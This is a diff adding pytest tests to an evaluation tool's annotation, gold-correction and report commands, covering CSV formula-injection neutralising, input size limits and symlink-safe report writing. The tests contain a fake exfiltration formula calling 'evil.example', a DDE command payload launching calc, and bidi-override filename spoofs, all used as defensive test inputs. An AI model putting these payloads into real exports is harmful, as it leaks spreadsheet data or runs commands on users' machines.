@@ -116,6 +116,40 @@ def test_annotations_are_stored_counted_exported_and_kept_on_a_rerun(stored_run,
     assert "deleted 1" in capsys.readouterr().out
 
 
+def test_annotation_text_opens_as_text_in_a_spreadsheet_and_reads_in_the_order_written(stored_run, db, tmp_path,
+                                                                                        capsys):
+    """Issue 44: CSV exports wrote `=HYPERLINK(...)` and `+cmd|...` as formulas, and a bidi override rendered a
+    note reversed. Formulas get a leading apostrophe in every CSV export (annotate --export, the report's rows.csv,
+    the app's CSV buttons); bidi controls are replaced when stored and when read (notes stored before)."""
+    import csv
+
+    from tmem.analysis.annotations import with_annotations
+    from tmem.store import Store
+
+    _, _, run_id, _ = stored_run
+    store = Store(db)
+    row = _row(store, run_id)
+    store.close()
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", row["question_id"], "--variant", "full",
+                "--label", "+cmd|' /C calc'!A0", "--note", formula, "--author", "@ana"]) == 0
+    assert cli(["annotate", "--db", str(db), "--run", run_id, "--export", str(tmp_path / "rows.csv")]) == 0
+    assert cli(["report", "--db", str(db), "--run", run_id, "--out", str(tmp_path / "site"), "--pages", "none"]) == 0
+    for path in (tmp_path / "rows.csv", tmp_path / "site" / "rows.csv"):
+        cells = [c for line in csv.reader(path.open()) for c in line]
+        assert "'" + formula in cells and "'+cmd|' /C calc'!A0" in cells and "'@ana" in cells, path
+        assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "@"))], path
+    # a note stored before the store cleaned it (straight into the table) is shown neutralised all the same
+    store = Store(db)
+    store.save_annotation({"corpus": "mini", "run_id": run_id, "scope": row["scope"], "question_id": row["question_id"],
+                           "variant": "flat", "author": "old", "label": "old \u202elabel", "note": "a \u202egnp.exe",
+                           "config_hash": None, "backend": None})
+    shown = with_annotations(store.run_results("mini", run_id), store.annotations("mini"))
+    store.close()
+    noted = shown[shown["label"].notna()]
+    assert "old \ufffdlabel" in set(noted["label"]) and "a \ufffdgnp.exe" in set(noted["note"])
+
+
 def test_bad_annotations_are_one_clear_line(stored_run, db, capsys):
     _, _, run_id, _ = stored_run
     assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", "nope", "--label", "x"]) == 1
@@ -197,6 +231,33 @@ def test_bad_corrections_files_name_the_line_and_field(stored_run, db, tmp_path,
         assert "bad.jsonl:2: " in err and message in err, err
 
 
+def test_corrections_are_bounded_like_an_imports_questions(stored_run, db, tmp_path, capsys):
+    """Issue 44: gold corrections took any size (a 50 MB answer, 200,000 units, repeated JSON keys); an 80 KB one
+    with 10,000 units took the stale check to 2 GB, and a 1 MB answer made re-scoring 5x slower."""
+    from tmem import limits
+
+    fix = {"scope": "Technology", "question": "temporal_1", "reason": "r"}
+    lines = {
+        json.dumps(fix | {"answer": "a" * (limits.MAX_MESSAGE_CHARS + 1)}): "field 'answer' is 20,001 characters, "
+                                                                            "over the limit of 20,000",
+        json.dumps(fix | {"evidence": [[f"m{i}"] for i in range(10_000)]}): "at most 1,000 units",
+        json.dumps(fix | {"evidence": [[f"m{i}" for i in range(1_001)]]}): "of at most 1,000 ids",
+        json.dumps(fix | {"evidence": [["m" * 1_001]]}): "of at most 1,000 characters",
+        json.dumps(fix | {"reason": "r" * (limits.MAX_MESSAGE_CHARS + 1), "answer": "x"}): "field 'reason' is",
+        json.dumps(fix | {"question": "q" * 1_001, "answer": "x"}): "field 'question' is 1,001 characters",
+        '{"scope": "Technology", "question": "temporal_1", "answer": "x", "answer": "y", "reason": "r"}':
+            "key 'answer' appears twice in one object; refused",
+        '{"scope": "Technology", "question": "temporal_1", "answer": "x", "reason": "r", "extra": {"k": 1, "k": 2}}':
+            "key 'k' appears twice",
+    }
+    for text, message in lines.items():
+        path = tmp_path / "big.jsonl"
+        path.write_text("\n" + text + "\n")
+        assert cli(["gold", "--db", str(db), "--corpus", "mini", "--add", str(path)]) == 1
+        err = capsys.readouterr().err
+        assert "big.jsonl:2: " in err and message in err and len(err.splitlines()) == 1, (message, err[:300])
+
+
 def test_the_shipped_locomo_corrections_name_real_questions():
     lines = [json.loads(line) for line in open(CORRECTIONS, encoding="utf-8") if line.strip() and
              not line.startswith("//")]
@@ -228,6 +289,44 @@ def test_the_report_is_a_static_escaped_site(stored_run, db, tmp_path, capsys):
     for variant, what in summary["whatif"].items():  # the what-if counts the units `run`'s recall counts
         assert what["units"] == rows.loc[rows["variant"] == variant, "units"].sum()
     assert len(rows) == 44
+
+
+def test_the_report_never_writes_through_a_link_and_clears_only_its_own_stale_pages(stored_run, db, tmp_path,
+                                                                                   capsys):
+    """Issue 44: `report --out` wrote through a symlinked index.html (a file outside overwritten) and 12 pages
+    outside through a symlinked q/, took "" as the current folder, and left an earlier report's pages behind."""
+    _, _, run_id, _ = stored_run
+    report = lambda out, *extra: cli(["report", "--db", str(db), "--run", run_id, "--out", str(out), *extra])  # noqa
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "precious.txt").write_text("keep me")
+    out = tmp_path / "site"
+    out.mkdir()
+    (out / "index.html").symlink_to(outside / "precious.txt")
+    assert report(out, "--pages", "all") == 0
+    assert (outside / "precious.txt").read_text() == "keep me" and not (out / "index.html").is_symlink()
+    every = {p.name for p in (out / "q").glob("*.html")}
+    assert len(every) == 44
+    # an earlier report's pages that this one does not write are removed; other files are not touched, and a
+    # link named like a page is removed, never what it points to
+    (out / "q" / "notes.txt").write_text("mine")
+    (outside / "page.html").write_text("outside")
+    (out / "q" / "x-0123abcd.html").symlink_to(outside / "page.html")
+    assert report(out, "--pages", "failures") == 0
+    failures = {p.name for p in (out / "q").glob("*.html")}
+    assert failures < every and set(re.findall(r"href='q/([^']+)'", (out / "index.html").read_text())) == failures
+    assert (out / "q" / "notes.txt").read_text() == "mine" and (outside / "page.html").read_text() == "outside"
+    assert not (out / "q" / "x-0123abcd.html").exists()
+    assert "question page(s) of an earlier report removed" in capsys.readouterr().err
+    linked = tmp_path / "linked"
+    linked.mkdir()
+    (linked / "q").symlink_to(outside, target_is_directory=True)
+    assert report(linked) == 1
+    assert "q: is a symbolic link" in capsys.readouterr().err and sorted(p.name for p in outside.iterdir()) == [
+        "page.html", "precious.txt"]
+    with pytest.raises(SystemExit):
+        report("")
+    assert "--out: an empty folder name" in capsys.readouterr().err
 
 
 def test_rescored_rows_carry_the_evidence_verdict_and_its_attribution(stored_run, db):
